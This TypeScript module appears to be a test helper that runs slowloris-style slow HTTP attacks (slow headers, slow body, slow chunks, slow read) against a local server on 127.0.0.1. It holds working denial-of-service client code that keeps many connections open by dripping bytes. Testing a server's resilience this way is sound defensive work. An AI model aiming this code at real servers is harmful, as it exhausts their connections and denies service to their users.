/** Clients that hold a connection and give it next to nothing to do: slowloris and its kin. */

import net from 'node:net';

export type Attack = 'slow headers' | 'slow body' | 'slow chunks' | 'slow read';

export const ATTACKS: readonly Attack[] = ['slow headers', 'slow body', 'slow chunks', 'slow read'];

export interface Attackers {
  /** Connections that are still up. */
  readonly held: number;
  close(): void;
}

const FIRST: Record<Attack, string> = {
  'slow headers': 'GET / HTTP/1.1\r\nHost: a\r\n',
  'slow body': 'POST /sink HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n',
  'slow chunks': 'POST /sink HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n',
  'slow read': 'GET /1m HTTP/1.1\r\nHost: a\r\n\r\n',
};

const NEXT: Record<Attack, string> = {
  'slow headers': 'X: a\r\n',
  'slow body': 'x',
  'slow chunks': '1\r\nx\r\n',
  'slow read': '',
};

const INTERVAL = 1000; // ms between two bits of each connection

/** Resolves when all are connected and have sent their first bytes; each then goes on bit by bit. */
export async function attack(port: number, kind: Attack, count: number): Promise<Attackers> {
  const sockets = new Set<net.Socket>();
  await Promise.all(Array.from({ length: count }, () => open(port, kind, sockets)));
  const turn = [...sockets];
  let next = 0;
  // One after the other, so that the attack does not come in waves that this process itself feels.
  const timer = setInterval(() => {
    const socket = turn[next++ % turn.length];
    if (socket?.writable && NEXT[kind]) socket.write(NEXT[kind]);
  }, INTERVAL / count);
  return {
    get held() {
      return sockets.size;
    },
    close() {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

function open(port: number, kind: Attack, sockets: Set<net.Socket>): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ port, host: '127.0.0.1' });
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', reject); // after the connection is made: too late to reject anything
    socket.on('connect', () => socket.write(FIRST[kind], () => resolve()));
    if (kind === 'slow read') socket.pause();
    else socket.resume();
  });
}
